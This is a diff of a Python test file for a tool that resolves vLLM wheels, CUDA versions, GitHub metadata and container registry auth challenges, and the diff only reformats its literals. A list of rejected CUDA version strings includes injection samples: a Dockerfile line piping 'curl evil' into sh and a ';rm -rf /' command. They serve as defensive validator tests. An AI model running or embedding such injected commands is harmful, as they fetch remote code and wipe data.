@@ -44,9 +44,21 @@ REAL_CUDA_VERSIONS = [
 
 # Cannot be NVIDIA's (or would break a line of the report or the Dockerfile): refused.
 HOSTILE_CUDA_VERSIONS = [
-    "", "12", "v12.9", "12.9.1\nRUN curl evil | sh", "12.9.0.043.1", "12.9.1 ", " 12.9.1", "１２.9",
-    "12.9.1;rm -rf /", "12.x", "1234.0", "12..9", "12.9.", "-12.9",
-]  # fmt: skip
+    "",
+    "12",
+    "v12.9",
+    "12.9.1\nRUN curl evil | sh",
+    "12.9.0.043.1",
+    "12.9.1 ",
+    " 12.9.1",
+    "１２.9",
+    "12.9.1;rm -rf /",
+    "12.x",
+    "1234.0",
+    "12..9",
+    "12.9.",
+    "-12.9",
+]
 
 
 @pytest.mark.parametrize("value, major", REAL_CUDA_VERSIONS)
@@ -95,13 +107,23 @@ REAL_WHEELS = [
     # https://wheels.vllm.ai/4a5299c93ff97c26def537b92562df5ada530fea/vllm/metadata.json (upstream-facts.md)
     ("vllm-0.14.0rc2.dev156+g4a5299c93-cp38-abi3-manylinux_2_31_x86_64.whl", REFERENCE, "x86_64", "default", None),
     # The same commit's cu130 directory: the variant appended to the local version (upstream-facts.md)
-    ("vllm-0.14.0rc2.dev156+g4a5299c93.cu130-cp38-abi3-manylinux_2_31_x86_64.whl", REFERENCE, "x86_64", "cu130",
-     "13.0"),
+    (
+        "vllm-0.14.0rc2.dev156+g4a5299c93.cu130-cp38-abi3-manylinux_2_31_x86_64.whl",
+        REFERENCE,
+        "x86_64",
+        "cu130",
+        "13.0",
+    ),
     # https://wheels.vllm.ai/nightly/cu129: uv reported this version with only a manylinux_2_28 aarch64 wheel
     # (vllm-project/vllm issue 49683, 2026-07-24); nightlies moved from manylinux_2_31 to manylinux_2_28 tags.
-    ("vllm-0.23.1rc1.dev1403+g4080263bb.cu129-cp38-abi3-manylinux_2_28_aarch64.whl", NIGHTLY, "aarch64", "cu129",
-     "12.9"),
-]  # fmt: skip
+    (
+        "vllm-0.23.1rc1.dev1403+g4080263bb.cu129-cp38-abi3-manylinux_2_28_aarch64.whl",
+        NIGHTLY,
+        "aarch64",
+        "cu129",
+        "12.9",
+    ),
+]
 
 
 @pytest.mark.parametrize("filename, commit, arch, variant, cuda", REAL_WHEELS)
@@ -114,9 +136,19 @@ def test_real_wheel_names_are_chosen_for_their_commit_arch_and_variant(filename,
     item, version = choose_wheel(listed, commit, arch, variant)
     assert item.filename == filename
     found = FoundWheel(
-        index="https://wheels.vllm.ai", variant=variant, arch=arch, filename=filename, version=str(version),
-        url=item.url, size=None, etag=None, last_modified=None, index_sha256=None, listed_in="", verified_by="GET",
-    )  # fmt: skip
+        index="https://wheels.vllm.ai",
+        variant=variant,
+        arch=arch,
+        filename=filename,
+        version=str(version),
+        url=item.url,
+        size=None,
+        etag=None,
+        last_modified=None,
+        index_sha256=None,
+        listed_in="",
+        verified_by="GET",
+    )
     assert cuda_of_name(found)[0] == cuda
 
 
@@ -169,7 +201,9 @@ REAL_COMMIT: dict[str, Any] = {
         "url": f"https://api.github.com/repos/vllm-project/vllm/git/commits/{REFERENCE}",
         "comment_count": 0,
         "verification": {
-            "verified": True, "reason": "valid", "payload": "tree 0000\nparent 1111\n",
+            "verified": True,
+            "reason": "valid",
+            "payload": "tree 0000\nparent 1111\n",
             "signature": "-----BEGIN PGP SIGNATURE-----\n\nwsFcBAABCAAQBQJ\n-----END PGP SIGNATURE-----\n",
             "verified_at": "2026-01-19T21:04:56Z",
         },
@@ -182,20 +216,39 @@ REAL_COMMIT: dict[str, Any] = {
     "parents": [{"sha": "1" * 40, "url": "https://api.github.com/repos/vllm-project/vllm/commits/" + "1" * 40}],
     "stats": {"total": 1, "additions": 1, "deletions": 0},
     "files": [{"filename": "vllm/x.py", "status": "modified", "additions": 1, "deletions": 0, "patch": "@@ -1 +1 @@"}],
-}  # fmt: skip
+}
 
 # https://docs.github.com/en/rest/pulls/pulls#get-a-pull-request, PR #24322's values; `body` and `auto_merge` null,
 # `mergeable` null after the merge, as GitHub answers.
 REAL_PULL = {
-    "number": 24322, "state": "closed", "locked": False, "title": "feat: spec decode with draft models",
-    "user": {"login": "dev", "id": 1}, "body": None, "labels": [{"name": "ready"}], "milestone": None,
-    "created_at": "2025-09-05T10:00:00Z", "updated_at": "2026-01-19T21:04:57Z", "closed_at": "2026-01-19T21:04:56Z",
-    "merged_at": "2026-01-19T21:04:56Z", "merge_commit_sha": REFERENCE, "draft": False, "auto_merge": None,
-    "merged": True, "mergeable": None, "rebaseable": None, "mergeable_state": "unknown",
-    "merged_by": {"login": "maintainer", "id": 2}, "comments": 12, "commits": 40, "additions": 900, "deletions": 50,
+    "number": 24322,
+    "state": "closed",
+    "locked": False,
+    "title": "feat: spec decode with draft models",
+    "user": {"login": "dev", "id": 1},
+    "body": None,
+    "labels": [{"name": "ready"}],
+    "milestone": None,
+    "created_at": "2025-09-05T10:00:00Z",
+    "updated_at": "2026-01-19T21:04:57Z",
+    "closed_at": "2026-01-19T21:04:56Z",
+    "merged_at": "2026-01-19T21:04:56Z",
+    "merge_commit_sha": REFERENCE,
+    "draft": False,
+    "auto_merge": None,
+    "merged": True,
+    "mergeable": None,
+    "rebaseable": None,
+    "mergeable_state": "unknown",
+    "merged_by": {"login": "maintainer", "id": 2},
+    "comments": 12,
+    "commits": 40,
+    "additions": 900,
+    "deletions": 50,
     "html_url": "https://github.com/vllm-project/vllm/pull/24322",
-    "head": {"ref": "spec-decode-draft", "sha": "2" * 40}, "base": {"ref": "main", "sha": "3" * 40},
-}  # fmt: skip
+    "head": {"ref": "spec-decode-draft", "sha": "2" * 40},
+    "base": {"ref": "main", "sha": "3" * 40},
+}
 
 
 def test_real_commit_and_pull_json_are_read():
@@ -237,17 +290,25 @@ def buildx_index(registry, repo: str, tag: str) -> dict[str, str]:
     manifests = []
     for os_name, arch, variant in (("linux", "amd64", None), ("linux", "arm64", "v8")):
         platform = {"architecture": arch, "os": os_name, **({"variant": variant} if variant else {})}
-        image = registry.put_image({**platform, "config": {"Env": ["PATH=/usr/bin", "CUDA_VERSION=12.9.0.043"]}},
-                                   platform)  # fmt: skip
+        image = registry.put_image(
+            {**platform, "config": {"Env": ["PATH=/usr/bin", "CUDA_VERSION=12.9.0.043"]}}, platform
+        )
         digests[f"{os_name}/{arch}"] = image["digest"]
         manifests.append(image)
     for digest in list(digests.values()):
         attestation = registry._put("application/vnd.oci.image.manifest.v1+json", {"schemaVersion": 2, "for": digest})
-        manifests.append({
-            "mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": attestation, "size": 1,
-            "annotations": {"vnd.docker.reference.digest": digest, "vnd.docker.reference.type": "attestation-manifest"},
-            "platform": {"architecture": "unknown", "os": "unknown"},
-        })  # fmt: skip
+        manifests.append(
+            {
+                "mediaType": "application/vnd.oci.image.manifest.v1+json",
+                "digest": attestation,
+                "size": 1,
+                "annotations": {
+                    "vnd.docker.reference.digest": digest,
+                    "vnd.docker.reference.type": "attestation-manifest",
+                },
+                "platform": {"architecture": "unknown", "os": "unknown"},
+            }
+        )
     registry.put_index(repo, tag, manifests)
     return digests
 
@@ -265,19 +326,34 @@ def test_an_index_with_attestation_manifests_resolves_its_platform(upstreams, mo
 
 REAL_CHALLENGES = [
     # nvcr.io, 2026: realm and scope, no service (sapcc/keppel pull request 731, `curl -si https://nvcr.io/v2/...`)
-    ('realm="https://nvcr.io/proxy_auth",scope="repository:nvidia/k8s-device-plugin:pull"',
-     {"realm": "https://nvcr.io/proxy_auth", "scope": "repository:nvidia/k8s-device-plugin:pull"}, "nvcr.io"),
+    (
+        'realm="https://nvcr.io/proxy_auth",scope="repository:nvidia/k8s-device-plugin:pull"',
+        {"realm": "https://nvcr.io/proxy_auth", "scope": "repository:nvidia/k8s-device-plugin:pull"},
+        "nvcr.io",
+    ),
     # nvcr.io, earlier: the scope inside the realm's query, a comma inside the quotes (apache/mesos, MESOS-9968 test)
-    ('realm="https://nvcr.io/proxy_auth?scope=repository:nvidia/tensorflow:pull,push"',
-     {"realm": "https://nvcr.io/proxy_auth?scope=repository:nvidia/tensorflow:pull,push"}, "nvcr.io"),
+    (
+        'realm="https://nvcr.io/proxy_auth?scope=repository:nvidia/tensorflow:pull,push"',
+        {"realm": "https://nvcr.io/proxy_auth?scope=repository:nvidia/tensorflow:pull,push"},
+        "nvcr.io",
+    ),
     # Docker Hub: the token spec's example, https://distribution.github.io/distribution/spec/auth/token/
-    ('realm="https://auth.docker.io/token",service="registry.docker.io",scope="repository:samalba/my-app:pull,push"',
-     {"realm": "https://auth.docker.io/token", "service": "registry.docker.io",
-      "scope": "repository:samalba/my-app:pull,push"}, "auth.docker.io"),
+    (
+        'realm="https://auth.docker.io/token",service="registry.docker.io",scope="repository:samalba/my-app:pull,push"',
+        {
+            "realm": "https://auth.docker.io/token",
+            "service": "registry.docker.io",
+            "scope": "repository:samalba/my-app:pull,push",
+        },
+        "auth.docker.io",
+    ),
     # gcr.io sent its service unquoted (cloudflare/serverless-registry pull request 122, 2026-02-21)
-    ('realm="https://gcr.io/v2/token",service=gcr.io', {"realm": "https://gcr.io/v2/token", "service": "gcr.io"},
-     "gcr.io"),
-]  # fmt: skip
+    (
+        'realm="https://gcr.io/v2/token",service=gcr.io',
+        {"realm": "https://gcr.io/v2/token", "service": "gcr.io"},
+        "gcr.io",
+    ),
+]
 
 
 @pytest.mark.parametrize("challenge, params, host", REAL_CHALLENGES)
